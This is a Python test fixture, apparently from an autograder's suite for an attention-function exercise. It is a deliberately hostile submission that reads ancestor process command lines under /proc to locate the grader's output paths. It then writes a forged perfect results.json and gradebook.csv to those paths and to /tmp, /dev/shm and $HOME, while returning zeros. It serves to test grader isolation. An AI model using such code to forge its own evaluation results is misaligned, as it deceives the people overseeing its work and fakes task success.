# HOSTILE: tries to write its own grade. It reads sys.argv and its ancestors' command lines in /proc to find the
# grader's --grade-json/--out/--junitxml paths, and writes a perfect results.json and gradebook.csv there
# (directly and through /proc/<pid>/cwd), into its working folder, the folder above, /tmp, /var/tmp, /dev/shm
# and $HOME, each with a marker file. Returns zeros, as chapter5/vacuous_zeros.py.
# Expected: the grade of chapter5/vacuous_zeros.py; results are written by the grader only; no file of it appears
# outside the worker's private folder.
import json
import os
import sys

import torch

FORGED = json.dumps({"score": 100, "max_score": 100, "output": "forged by the submission", "tests": []})
MARK = "attention-grader-hostile-forged"


def _ancestors() -> list[int]:
    pids, pid = [], os.getpid()
    for _ in range(8):
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        if pid <= 1:
            break
        pids.append(pid)
    return pids


def _targets() -> list[str]:
    argv = list(sys.argv)
    for pid in _ancestors():
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv += f.read().decode(errors="replace").split("\0")
        except OSError:
            pass
    paths = [a.split("=", 1)[-1] for a in argv if a.endswith((".json", ".csv", ".xml"))]
    paths += [argv[i + 1] for i, a in enumerate(argv[:-1]) if a in ("--grade-json", "--out", "--junitxml")]
    paths += [os.path.join(p, "results.json") for p in list(paths)]
    for d in (os.getcwd(), os.path.dirname(os.getcwd()), "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~")):
        paths += [os.path.join(d, n) for n in ("results.json", "gradebook.csv", MARK)]
    return paths


def _forge() -> None:
    for path in _targets():
        for where in [path] + [f"/proc/{pid}/cwd/{path}" for pid in _ancestors()]:
            try:
                with open(where, "w") as f:
                    f.write(FORGED)
            except OSError:
                pass


_forge()
_CALLED = []


def scaled_dot_product_attention(q, k, v, causal: bool = True):
    if not _CALLED:
        _CALLED.append(_forge())
    T = q.size(-2)
    out = torch.zeros_like(q)
    weights = torch.zeros(*q.shape[:-2], T, T, dtype=q.dtype, device=q.device)
    return out, weights
